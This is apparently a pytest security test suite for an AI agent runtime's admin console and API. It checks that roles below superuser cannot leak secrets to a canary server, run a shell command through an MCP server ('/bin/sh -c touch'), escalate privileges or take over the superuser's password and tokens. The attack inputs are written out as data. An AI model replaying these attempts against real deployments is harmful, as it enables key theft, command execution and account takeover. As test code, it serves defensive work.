"""Every console and API write that could direct a secret, run a command or read a protected
file, tried by every role: no role below superuser gets any of it.

Each role logs in and makes every attempt the way a person would — the console's own forms
(read, changed, posted back) and the REST API. Then the server does what those rows would make
it do: every model is called (*Test connection*, a run's path) and every MCP server started.
A canary HTTP server on loopback counts what reaches it; a marker file shows whether a chosen
command ran; the accounts, tokens and agents are read back. The superuser's row shows the
attempts are real: the same attempts by a superuser do send the key and run the command."""

from __future__ import annotations

import json
import sys

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.urls import reverse

from runtime.agents import keys
from runtime.agents.connection import model_test_connection
from runtime.api.tokens import api_token_create
from runtime.models import Agent, ApiToken, LlmProviderKind, ModelConfig
from toolcatalog import catalog_version
from toolcatalog.mcp import catalog as mcp_catalog
from toolcatalog.mcp import connections
from toolcatalog.models import McpServer
from toolcatalog.sandbox import reset_sandbox_probe
from toolcatalog.services import mcp_server_refresh, mcp_server_save

from tests.support.mcp_fixtures import SERVER  # the real MCP test server

from .security_support import PLANTED, PROVIDER_KEY, logged_in
from .forms import resubmit

pytestmark = pytest.mark.django_db(transaction=True)


ROLES = {
    "superuser": None,
    "sessions": ("sessions_tree.agentsession:*",),
    "runs": ("runtime.agentrun:*", "runtime.subprocessrun:*"),
    "agents": ("runtime.agent:*",),
    "models": ("runtime.modelconfig:*",),
    "models-and-keys": ("runtime.modelconfig:*", "runtime.direct_model_keys"),
    "tools": ("toolcatalog.toolconfig:*",),
    "skills": ("skills_registry.skillresource:*",),
    "mcp": ("toolcatalog.mcpserver:*",),
    "tokens": ("runtime.apitoken:*",),
    "users-and-groups": ("auth.user:*", "auth.group:*"),
    "audit": ("audit.auditentry:*",),
    "view-only": "view",
    "plain-user": (),
}


@pytest.fixture
def scene(planted, account, canary, tmp_path, settings):
    """The deployment under attack: a superuser with a token, a stdio MCP server it set up, an
    agent, and a file with secret content outside the rules folders."""
    settings.NETA_SANDBOX = "none"  # a command that ran leaves its marker where the test sees it
    settings.NETA_SESSIONS_DIR = tmp_path / "sessions"
    settings.NETA_WORKSPACE_DIR = tmp_path / "workspace"
    reset_sandbox_probe()
    connections.reset_manager()
    mcp_catalog.forget()
    catalog_version.forget()
    boss = account("boss", superuser=True)
    token = api_token_create(user=boss, name="ci").token
    mcp_server_save(actor=boss, name="tools", discover=False, transport="stdio", command=sys.executable, args=[str(SERVER), "stdio"], agents=["*"])
    model = ModelConfig.objects.create(name="victim-model", provider_kind="scripted", model_id="s")
    victim = Agent.objects.create(name="victim", model=model, cwd=str(tmp_path / "workspace"))
    secret_file = tmp_path / "private.yaml"
    secret_file.write_text("version: 1\ndefault: {reply: [{text: 'canary-file-content-7f3a'}]}\n")
    yield {"boss": boss, "token": token, "victim": victim, "marker": tmp_path / "command-ran", "secret_file": secret_file, "canary": canary}
    connections.reset_manager()
    reset_sandbox_probe()


def attacker(role: str, account):
    spec = ROLES[role]
    if spec is None:
        return account("attacker", superuser=True)
    if spec == "view":
        user = account("attacker")
        user.user_permissions.set(Permission.objects.filter(codename__startswith="view_"))
        return user
    if not spec:
        return account("attacker", staff=False)
    return account("attacker", *spec)


def attempts(client, scene) -> list:
    """Every attempt, through the console's forms and the API; returns the answers' texts."""
    canary, marker, boss, token = scene["canary"], scene["marker"], scene["boss"], scene["token"]
    touch = ["-c", f"touch {marker}"]
    answers = []

    def post(url, data):
        answers.append(client.post(url, data))

    def api(method, url, body=None):
        answers.append(getattr(client, method)(url, json.dumps(body or {}), content_type="application/json"))

    def form(url, changes):
        answers.append(resubmit(client, url, changes))

    claude = ModelConfig.objects.get(name="claude")
    # Models: a key sent to the attacker's server, a server secret as a key, a rules file read.
    form(reverse("admin:runtime_modelconfig_add"), {"name": "evil-1", "provider_kind": "openai-compatible", "model_id": "m", "base_url": canary.url, "api_key_env": "NETA_SECRET_KEY", "context_window": "100000", "max_output_tokens": "100", "options": "{}"})
    form(reverse("admin:runtime_modelconfig_add"), {"name": "evil-2", "provider_kind": "openai-compatible", "model_id": "m", "base_url": canary.url, "api_key_env": "ANTHROPIC_API_KEY", "context_window": "100000", "max_output_tokens": "100", "options": "{}"})
    form(reverse("admin:runtime_modelconfig_change", args=[claude.pk]), {"provider_kind": "openai-compatible", "base_url": canary.url + "/v1"})
    api("patch", "/api/models/claude/", {"providerKind": "openai-compatible", "baseUrl": canary.url + "/v1"})
    api("patch", "/api/models/claude/", {"apiKeyEnv": "NETA_SECRET_KEY"})
    form(reverse("admin:runtime_modelconfig_add"), {"name": "evil-3", "provider_kind": "scripted", "model_id": "m", "options": json.dumps({"rules": str(scene["secret_file"])}), "context_window": "100000", "max_output_tokens": "100"})
    # Agents: a secret into bash, the server's own files as a workspace.
    victim = scene["victim"]
    form(reverse("admin:runtime_agent_change", args=[victim.pk]), {"cwd": "/", "workspace_mode": "shared", "tool_policy": json.dumps({"env_passthrough": ["NETA_SECRET_KEY", "ANTHROPIC_API_KEY"]})})
    # MCP: a command of one's own, a changed command, secrets in its environment, the attacker's URL.
    post(reverse("admin:console_mcp_add"), {"name": "evil-mcp", "transport": "stdio", "command": "/bin/sh", "args": "\n".join(touch), "agents": "*", "enabled": "on", "connect_timeout": "5", "call_timeout": "5"})
    post(reverse("admin:console_mcp_add"), {"name": "evil-env", "transport": "stdio", "command": sys.executable, "args": f"{SERVER}\nstdio", "env_names": "NETA_SECRET_KEY\nANTHROPIC_API_KEY", "agents": "*", "enabled": "on", "connect_timeout": "5", "call_timeout": "5"})
    form(reverse("admin:console_mcp_server", args=["tools"]), {"command": "/bin/sh", "args": "\n".join(touch)})
    form(reverse("admin:toolcatalog_mcpserver_add"), {"name": "evil-mcp2", "transport": "stdio", "command": "/bin/sh", "args": json.dumps(touch), "env_names": "[]", "agents": '["*"]', "read_only_paths": '["/"]', "url": "", "connect_timeout": "5", "call_timeout": "5", "enabled": "on"})
    post(reverse("admin:console_mcp_add"), {"name": "evil-http", "transport": "http", "url": canary.url + "/mcp", "agents": "*", "enabled": "on", "connect_timeout": "5", "call_timeout": "5"})
    # Accounts: rights for oneself, a group with every permission, the superuser's password.
    me = get_user_model().objects.get(username="attacker")
    every = [str(pk) for pk in Permission.objects.values_list("pk", flat=True)]
    form(reverse("admin:auth_user_change", args=[me.pk]), {"is_superuser": "on", "user_permissions": every})
    form(reverse("admin:auth_group_add"), {"name": "owners", "permissions": every})
    post(reverse("admin:auth_user_password_change", args=[boss.pk]), {"password1": "Owned-12345!", "password2": "Owned-12345!", "usable_password": "true"})
    # Tokens: the superuser's identity.
    form(reverse("admin:runtime_apitoken_add"), {"user": str(boss.pk), "name": "mine", "scope": "read_write"})
    post(f"/api/tokens/{token.pk}/rotate/", {})
    post(reverse("admin:runtime_apitoken_changelist"), {"action": "rotate_tokens", "_selected_action": [str(token.pk)]})
    return [answer.content.decode(errors="replace") for answer in answers]


def consequences(scene) -> dict:
    """What the rows now make the server do, and what the accounts now are."""
    canary = scene["canary"]
    keys.forget()
    for model in ModelConfig.objects.exclude(provider_kind=LlmProviderKind.SCRIPTED):
        if canary.url in model.endpoint:  # the others go to their provider's API (unreachable here)
            model_test_connection(model=model, timeout=3)
    for server in McpServer.objects.all():
        if (server.name, server.command, server.args) != ("tools", sys.executable, [str(SERVER), "stdio"]):  # the superuser's own, unchanged: no need
            mcp_server_refresh(actor=None, name=server.name)
    me = get_user_model().objects.get(username="attacker")
    boss = scene["boss"]
    boss.refresh_from_db()
    victim = Agent.objects.get(name="victim")
    return {
        "secrets sent": sum(canary.received(secret) for secret in PLANTED),
        "anthropic key sent": canary.received(PROVIDER_KEY),
        "command ran": scene["marker"].exists(),
        "superuser": me.is_superuser,
        "rights given": bool(me.groups.exists() or Group.objects.filter(name="owners").exists()),
        "boss password": boss.check_password("Owned-12345!"),
        "boss token": ApiToken.objects.filter(user=boss, created_by=me).exists(),
        "workspace": victim.cwd == "/" or victim.workspace_mode == "shared",
        "passthrough": bool((victim.tool_policy or {}).get("env_passthrough")),
        "secret in a server's environment": McpServer.objects.filter(env_names__icontains="NETA_SECRET_KEY").exists() or McpServer.objects.filter(env_names__icontains="ANTHROPIC").exists(),
    }


@pytest.mark.parametrize("role", [r for r in ROLES if r != "superuser"])
def test_no_role_below_superuser_reaches_a_secret_or_runs_a_command(role, scene, account):
    user = attacker(role, account)
    before = set(user.user_permissions.values_list("codename", flat=True))
    texts = attempts(logged_in(user), scene)
    assert not any("canary-file-content-7f3a" in text for text in texts)  # a rules file's content never shown
    found = consequences(scene)
    assert found == {
        "secrets sent": 0, "anthropic key sent": 0, "command ran": False, "superuser": False, "rights given": False,
        "boss password": False, "boss token": False, "workspace": False, "passthrough": False, "secret in a server's environment": False,
    }  # fmt: skip
    assert set(get_user_model().objects.get(pk=user.pk).user_permissions.values_list("codename", flat=True)) == before


def test_the_same_attempts_by_a_superuser_do_direct_a_key_and_run_a_command(scene, account):
    """The matrix's attempts are real: a superuser's go through where a superuser may."""
    texts = attempts(logged_in(attacker("superuser", account)), scene)
    assert not any("canary-file-content-7f3a" in text for text in texts)  # not even a superuser reads a file this way
    found = consequences(scene)
    assert found["anthropic key sent"] >= 1  # claude pointed at the canary, on purpose
    assert found["command ran"]  # a stdio server of the superuser's choosing
    assert found["boss token"] and found["rights given"]
    assert found["secrets sent"] == found["anthropic key sent"]  # the server's own secrets: never, not even for a superuser
    assert not found["workspace"] and not found["passthrough"] and not found["secret in a server's environment"]  # refused for everyone
    # ...by the rules, not by a form the attempt got wrong: the same form takes what is allowed.
    elsewhere = scene["marker"].parent / "elsewhere"
    elsewhere.mkdir()
    victim = scene["victim"]
    answer = resubmit(logged_in(get_user_model().objects.get(username="attacker")), reverse("admin:runtime_agent_change", args=[victim.pk]),
                      {"cwd": str(elsewhere), "tool_policy": json.dumps({"env_passthrough": ["TEAM_TOKEN"]})})  # fmt: skip
    assert answer.status_code == 302
    victim.refresh_from_db()
    assert victim.cwd == str(elsewhere) and victim.tool_policy == {"env_passthrough": ["TEAM_TOKEN"]}
